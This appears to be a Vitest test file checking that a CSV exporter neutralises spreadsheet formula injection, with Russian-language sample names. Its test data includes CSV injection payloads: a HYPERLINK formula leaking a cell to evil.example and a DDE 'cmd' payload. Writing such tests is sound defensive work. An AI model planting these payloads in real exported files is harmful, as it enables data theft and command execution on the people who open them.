import { describe, expect, it } from 'vitest'
import { csvCell } from '../../src/documents/csv'
import { disciplineCsv } from '../../src/documents/discipline-csv'
import { disciplineReport } from '../../src/domain/discipline'

// OWASP «CSV Injection»: what a spreadsheet would run is written so that it shows as text
describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"x")', `"'=HYPERLINK(""http://evil.example/?""&A1;""x"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    [' =1+1', "' =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\t', `"'\t"`],
  ])('%j is neutralised: %s', (value, written) => {
    expect(csvCell(value)).toBe(written)
  })

  it.each([
    ['Иванова И.И.', 'Иванова И.И.'],
    ['12', '12'],
    ['1,5', '1,5'],
    ['a-b', 'a-b'],
    ['e-mail: a@b.ru', 'e-mail: a@b.ru'],
    ['«Школа; № 5»', '"«Школа; № 5»"'],
  ])('%j stays as it is (quoted when it must be): %s', (value, written) => {
    expect(csvCell(value)).toBe(written)
  })

  it('the discipline report writes every executor name through it', () => {
    const names = ['=HYPERLINK("http://x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1+1']
    const counts = { items: 1, onTime: 1, late: 0, overdue: 0, open: 0, removed: 0, delayDays: 0 }
    const report = disciplineReport(
      { from: '2026-01-01', to: '2026-12-31', asOf: '2026-06-01' },
      names.map((executor, i) => ({ ...counts, executor, executorId: String(i) })),
    )
    const text = new TextDecoder().decode(disciplineCsv(report))
    const firstCells = text
      .split('\r\n')
      .slice(1, -2)
      .map((line) => line.split(';')[0]!.replace(/^"/, ''))
    expect(firstCells.length).toBe(names.length)
    for (const cell of firstCells) expect(cell.startsWith("'")).toBe(true)
  })
})
